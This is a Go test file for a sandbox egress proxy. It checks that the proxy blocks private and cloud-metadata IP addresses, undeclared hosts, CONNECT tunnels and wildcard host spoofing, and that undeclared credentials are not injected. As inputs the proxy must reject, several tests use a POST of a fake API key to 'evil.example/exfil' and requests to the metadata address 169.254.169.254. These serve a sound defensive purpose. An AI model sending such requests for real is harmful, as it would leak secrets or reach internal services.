package sandbox

import (
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/danielsimonjr/ironclaw/internal/safety"
	"github.com/danielsimonjr/ironclaw/internal/types"
)

func newTestProxy(t *testing.T) *EgressProxy {
	t.Helper()
	pipeline, err := safety.New(safety.Config{MaxContentLength: 1 << 20, InjectionCheckEnabled: true})
	require.NoError(t, err)
	return NewEgressProxy(NewTokenManager(time.Minute), pipeline)
}

func forward(t *testing.T, p *EgressProxy, method, url, body string, allowed map[string]bool) error {
	t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	require.NoError(t, err)
	_, ferr := p.Forward(req, "job-1", allowed)
	return ferr
}

func TestProxyRejectsIPLiterals(t *testing.T) {
	p := newTestProxy(t)
	for _, url := range []string{
		"http://127.0.0.1/x",
		"http://10.0.0.5/x",
		"http://169.254.169.254/latest/meta-data/",
		"http://[::1]/x",
		"http://192.168.1.1/x",
	} {
		err := forward(t, p, http.MethodGet, url, "", map[string]bool{"example.com": true})
		assert.Error(t, err, "expected rejection for %s", url)
	}
}

func TestProxyRejectsUndeclaredHost(t *testing.T) {
	p := newTestProxy(t)
	err := forward(t, p, http.MethodGet, "https://evil.example/exfil", "",
		map[string]bool{"api.github.com": true})
	require.Error(t, err)
	assert.ErrorIs(t, err, types.ErrSandbox)
}

func TestProxyRefusesConnect(t *testing.T) {
	p := newTestProxy(t)
	err := forward(t, p, http.MethodConnect, "https://example.com:443", "",
		map[string]bool{"example.com": true})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "CONNECT")
}

func TestProxyBlocksLeakInBodyBeforeNetwork(t *testing.T) {
	p := newTestProxy(t)
	// The host is allowlisted, so only the leak scan can stop this; it
	// must fail before any connection is attempted.
	err := forward(t, p, http.MethodPost, "https://evil.example/exfil",
		`{"key":"sk-abcdefghijklmnopqrstuvwxyz1234"}`,
		map[string]bool{"evil.example": true})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "leak")
}

func TestProxyWildcardHostMatch(t *testing.T) {
	allowed := map[string]bool{"*.example.com": true}
	assert.True(t, hostAllowed("api.example.com", allowed))
	assert.True(t, hostAllowed("API.EXAMPLE.COM", allowed))
	assert.False(t, hostAllowed("example.com.evil.net", allowed))
	assert.False(t, hostAllowed("example.com", allowed), "wildcard does not cover the bare domain")
}

func TestForbiddenIPClasses(t *testing.T) {
	forbidden := []string{
		"127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.0.1",
		"169.254.169.254", "100.64.0.1", "::1", "fe80::1", "0.0.0.0",
	}
	for _, s := range forbidden {
		assert.True(t, isForbiddenIP(net.ParseIP(s)), "expected %s forbidden", s)
	}
	allowed := []string{"93.184.216.34", "8.8.8.8", "2606:2800:220:1:248:1893:25c8:1946"}
	for _, s := range allowed {
		assert.False(t, isForbiddenIP(net.ParseIP(s)), "expected %s allowed", s)
	}
}

func TestInjectCredentials(t *testing.T) {
	resolver := staticResolver{"github": "ghtoken-value"}
	declared := map[string]bool{"github": true}

	params := map[string]any{
		"url":   "https://api.github.com",
		"token": "{{secret:github}}",
		"count": 3,
	}
	out, err := InjectCredentials(params, declared, resolver)
	require.NoError(t, err)
	assert.Equal(t, "ghtoken-value", out["token"])
	assert.Equal(t, 3, out["count"])
}

func TestInjectCredentialsRejectsUndeclared(t *testing.T) {
	resolver := staticResolver{"aws": "secret"}
	_, err := InjectCredentials(
		map[string]any{"v": "{{secret:aws}}"},
		map[string]bool{"github": true},
		resolver,
	)
	assert.ErrorIs(t, err, types.ErrNotAuthorized)
}

type staticResolver map[string]string

func (r staticResolver) Resolve(name string) (string, error) {
	if v, ok := r[name]; ok {
		return v, nil
	}
	return "", types.ErrNotAuthorized
}
